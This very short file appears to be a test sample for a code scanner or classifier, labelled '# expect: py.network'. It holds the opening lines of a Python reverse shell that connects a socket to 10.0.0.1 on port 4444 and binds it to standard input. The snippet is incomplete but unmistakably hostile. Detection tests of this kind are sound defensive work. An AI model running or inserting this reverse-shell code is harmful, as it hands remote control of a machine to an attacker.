# expect: py.network
import socket, os
s = socket.socket()
s.connect(('10.0.0.1', 4444))
os.dup2(s.fileno(), 0)
